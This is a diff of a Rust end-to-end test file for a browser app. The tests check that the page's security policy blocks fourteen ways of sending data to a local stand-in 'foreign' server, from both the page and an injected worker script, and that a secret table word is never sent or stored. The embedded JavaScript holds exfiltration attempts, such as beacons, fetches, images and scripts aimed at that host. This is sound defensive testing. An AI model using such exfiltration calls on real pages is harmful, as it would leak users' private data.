@@ -1,12 +1,12 @@
-//! Nothing leaves the page: every way out is tried, from the page and from its worker, towards a server that listens.
+//! Privacy: every way to send data is tried, from the page and from its worker, to a foreign server that logs requests.
 
 use anyhow::{Context as _, Result, ensure};
 use pinhole_e2e::{
     Page, Setup,
     browser::dist,
-    csv::Plant,
+    csv::SyntheticTable,
     files::Folder,
-    page::{EVENTUALLY, SOON},
+    page::{LONG_TIMEOUT, SHORT_TIMEOUT},
     scenario,
 };
 use serde_json::{Value, json};
@@ -14,15 +14,15 @@ use xtask::server::{Override, Reply, Server, Site};
 
 use crate::training::set_up;
 
-/// Tells the page's violations and the worker's findings.
-const LISTEN: &str = "
+/// Script that collects policy violations of the page and results from the worker.
+const COLLECT_RESULTS: &str = "
     window.__violations = [];
     document.addEventListener('securitypolicyviolation', event => window.__violations.push(event.effectiveDirective));
     window.__worker = [];
     new BroadcastChannel('attack').onmessage = event => window.__worker.push(event.data);
 ";
 
-/// Tries each way out; `arguments[0]` is the foreign address. Answers what each came to.
+/// Script that tries each way to reach the foreign address, `arguments[0]`, and returns the result of each.
 const ATTACK: &str = "
     const [foreign, done] = arguments;
     const outcome = {};
@@ -50,7 +50,7 @@ const ATTACK: &str = "
             const source = new EventSource(foreign + 'events');
             source.onopen = resolve; source.onerror = reject;
         }),
-        // The browser says true even to a beacon that the policy then drops: the foreign server's log is what counts.
+        // sendBeacon returns true even if the policy then drops the beacon: only the foreign server's log counts.
         sendBeacon: () => Promise.resolve(navigator.sendBeacon(foreign + 'beacon', 'secret')),
         image: () => loads(make('img', { src: foreign + 'image.png' })),
         script: () => loads(make('script', { src: foreign + 'script.js' })),
@@ -75,7 +75,7 @@ const ATTACK: &str = "
     })();
 ";
 
-/// Put in front of the worker's own script: the same, from within.
+/// Script with the same attempts, to run before the worker's own script.
 fn worker_attack(foreign: &str) -> String {
     let foreign = json!(foreign);
     format!(
@@ -104,25 +104,25 @@ fn worker_attack(foreign: &str) -> String {
 }
 
 #[test]
-fn every_way_out_is_refused() {
+fn every_way_to_send_data_is_refused() {
     let foreign = Server::start(Site::new(dist()), 0).expect("a free port");
-    // Another name for this machine is another origin, but also another host: closest to a stranger's server.
+    // Another name of this machine is another origin and another host, as a foreign server is.
     let address = foreign.address().replace("127.0.0.1", "localhost");
     let own = std::fs::read_to_string(dist().join("engine-worker.js")).expect("the worker's script is in dist");
     let body = format!("{}{own}", worker_attack(&address)).into_bytes();
     let attacked: Override = Box::new(move |path| {
         (path == "engine-worker.js").then(|| Reply { status: 200, content_type: "text/javascript", body: body.clone() })
     });
-    scenario(Setup::cpu().before_scripts(LISTEN).instead(attacked), async |page| {
+    scenario(Setup::cpu().before_scripts(COLLECT_RESULTS).with_override(attacked), async |page| {
         page.open("").await?;
         set_up(page, 500, 64, 1).await?;
         page.press("Train").await?;
-        page.until_phase("finished", EVENTUALLY).await?;
+        page.until_phase("finished", LONG_TIMEOUT).await?;
         attack_from_page(page, &address).await?;
         let from_worker = page
-            .until("four attempts from the worker", SOON, async || {
-                let told = page.script("return window.__worker;", vec![]).await?;
-                Ok((told.as_array().is_some_and(|told| told.len() >= 4)).then_some(told))
+            .until("four attempts from the worker", SHORT_TIMEOUT, async || {
+                let results = page.script("return window.__worker;", vec![]).await?;
+                Ok((results.as_array().is_some_and(|results| results.len() >= 4)).then_some(results))
             })
             .await?;
         println!("from the worker: {from_worker}");
@@ -136,27 +136,30 @@ fn every_way_out_is_refused() {
     assert!(answered.is_ok(), "the foreign server does not listen: nothing could have arrived");
 }
 
-/// That the page has asked its own server for its own files and nothing else.
+/// Checks that the page has requested only its own files from its own server.
 fn ensure_only_files(page: &Page) -> Result<()> {
     for request in page.requests() {
-        ensure!(request.method == "GET" && request.body_length == 0, "more than a file was asked for: {request:?}");
+        ensure!(
+            request.method == "GET" && request.body_length == 0,
+            "a request is more than a fetch of a file: {request:?}"
+        );
         let path = request.url.split('?').next().unwrap_or_default().trim_start_matches('/');
         let is_file = path.is_empty() || path == "favicon.ico" || dist().join(path).is_file();
-        ensure!(is_file, "something that is no file of the page was asked for: {request:?}");
+        ensure!(is_file, "a request is not for a file of the page: {request:?}");
     }
     Ok(())
 }
 
-/// A word that stands in the table and nowhere else.
+/// A word that occurs only in the table.
 const SECRET: &str = "tremulous-quokka";
 
 #[test]
-fn a_table_stays_in_the_page_while_it_is_opened_learned_from_and_exported() {
+fn a_table_is_neither_sent_nor_stored() {
     let foreign = Server::start(Site::new(dist()), 0).expect("a free port");
     let address = foreign.address().replace("127.0.0.1", "localhost");
-    scenario(Setup::cpu().before_scripts(LISTEN), async |page| {
+    scenario(Setup::cpu().before_scripts(COLLECT_RESULTS), async |page| {
         let folder = Folder::new("secret")?;
-        let table = Plant { odd_every: 20, ..Plant::new(600, 8) }.csv().replace("boost", SECRET);
+        let table = SyntheticTable { anomaly_every: 20, ..SyntheticTable::new(600, 8) }.csv().replace("boost", SECRET);
         let table = folder.write(&format!("{SECRET}.csv"), table.as_bytes())?;
         page.open_tables().await?;
         page.open_csv(&table).await?;
@@ -169,16 +172,16 @@ fn a_table_stays_in_the_page_while_it_is_opened_learned_from_and_exported() {
         attack_from_page(page, &address).await?;
         ensure!(foreign.log().is_empty(), "another server has seen {:?}", foreign.log());
         ensure_only_files(page)?;
-        let told = page.requests().iter().any(|request| request.url.contains(SECRET));
-        ensure!(!told, "an address tells of the table");
-        let kept = page.client.execute_async(KEPT, vec![json!(SECRET)]).await?;
-        ensure!(kept == false, "the browser keeps something of the table");
+        let is_leaked = page.requests().iter().any(|request| request.url.contains(SECRET));
+        ensure!(!is_leaked, "an address contains a word of the table");
+        let is_stored = page.client.execute_async(SEARCH_STORAGE, vec![json!(SECRET)]).await?;
+        ensure!(is_stored == false, "the browser stores something of the table");
         Ok(())
     });
 }
 
-/// Whether the browser's storage holds a word.
-const KEPT: &str = "
+/// Script that returns true if the browser's storage contains a word.
+const SEARCH_STORAGE: &str = "
     const [word, done] = arguments;
     const holds = storage => JSON.stringify({ ...storage }).includes(word);
     const search = async () => {
@@ -197,9 +200,9 @@ async fn attack_from_page(page: &Page, address: &str) -> Result<()> {
     let ways = outcome.as_object().context("what each way came to")?;
     ensure!(ways.len() == 14, "{} ways were tried, not 14", ways.len());
     for (way, result) in ways {
-        // A frame that was refused tells its page nothing: it shows an error of the browser's, and that has loaded.
-        let tells_nothing = matches!(way.as_str(), "sendBeacon" | "frame");
-        ensure!(tells_nothing || result != "allowed", "{way} was allowed");
+        // The page cannot tell that a frame was refused: the browser's error page loads in it.
+        let is_inconclusive = matches!(way.as_str(), "sendBeacon" | "frame");
+        ensure!(is_inconclusive || result != "allowed", "{way} was allowed");
     }
     let violations = page.script("return window.__violations;", vec![]).await?;
     let seen = |directive: &str| {
@@ -208,7 +211,7 @@ async fn attack_from_page(page: &Page, address: &str) -> Result<()> {
             .is_some_and(|all| all.iter().filter_map(Value::as_str).any(|one| one.starts_with(directive)))
     };
     for directive in ["connect-src", "img-src", "script-src", "style-src", "form-action", "frame-src"] {
-        ensure!(seen(directive), "the policy has not spoken of {directive}: {violations}");
+        ensure!(seen(directive), "no violation of {directive} was reported: {violations}");
     }
     Ok(())
 }
